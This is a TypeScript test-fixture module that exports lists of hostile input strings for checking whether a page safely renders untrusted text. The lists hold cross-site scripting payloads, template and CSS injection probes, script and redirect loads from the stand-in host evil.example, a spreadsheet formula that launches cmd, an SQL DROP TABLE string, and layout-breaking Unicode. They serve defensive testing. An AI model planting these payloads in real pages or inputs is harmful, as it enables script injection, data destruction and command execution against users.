/*
 * Texts that attack a page which takes them for markup, code, styles, addresses or templates, or that break its layout.
 * Each payload that runs calls alert() or requests another host, which a watched page reports.
 */

const markup = [
  "<script>alert(1)</script>",
  "</script><script>alert(1)</script>",
  "<ScRiPt>alert(1)</ScRiPt>",
  "<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>",
  "<img src=https://evil.example/pixel.png>",
  '"><img src=x onerror=alert(1)>',
  "'><svg onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
  "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
  "<object data=https://evil.example/x.swf></object>",
  "<embed src=javascript:alert(1)>",
  "<body onload=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<input autofocus onfocus=alert(1)>",
  "<video><source onerror=alert(1)></video>",
  "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "<template><img src=x onerror=alert(1)></template>",
  "<a href=javascript:alert(1)>Approve</a>",
  "<form action=https://evil.example><button>Approve</button></form>",
  "<base href=https://evil.example/>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<link rel=stylesheet href=https://evil.example/x.css>",
  "<style>*{display:none}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "</title></textarea></select><script>alert(1)</script>",
];

const codeAndAddresses = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(document.domain)//",
  "data:text/html,<script>alert(1)</script>",
  "vbscript:msgbox(1)",
  "https://evil.example/?a=1&b=<b>",
  "//evil.example/x.js",
  "{{ 7 * 7 }} {{constructor.constructor('alert(1)')()}}",
  "${alert(1)} `${alert(1)}` #{7*7} <%= 7*7 %>",
  "'-alert(1)-'",
  "\\u003cimg src=x onerror=alert(1)\\u003e",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "red;background:url(https://evil.example/x.png)",
  "expression(alert(1))",
  "**bold** [link](javascript:alert(1)) ![img](https://evil.example/x.png)",
  '=HYPERLINK("https://evil.example","Approve")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "__proto__",
  "constructor",
  "'; DROP TABLE runs; --",
];

const layout = [
  "a".repeat(600),
  "word ".repeat(120).trim(),
  "first line\nsecond line\r\nthird line",
  "\u202Eesrever dna tnuoma\u202C",
  "\u2066<\u2069 isolated \u05E9\u05DC\u05D5\u05DD \u0627\u0644\u0633\u0644\u0627\u0645",
  "zero\u200Bwidth\u200Djoined\uFEFFmark",
  "Z\u0351\u036B\u0343a\u0349\u0316l\u0318\u0353g\u0322o\u0334 \u0338\u0321".repeat(6),
  "👩‍👩‍👧‍👦 🏴‍☠️ 🇩🇪 e\u0301",
  "tab\tand\u0007bell",
];

/** Every text as a stranger may write it. */
export const hostileTexts: readonly string[] = [...markup, ...codeAndAddresses, ...layout];

/** All texts in one, for places of which a page shows only one. */
export const allHostileTexts = hostileTexts.filter((text) => text.length < 200).join(" ");
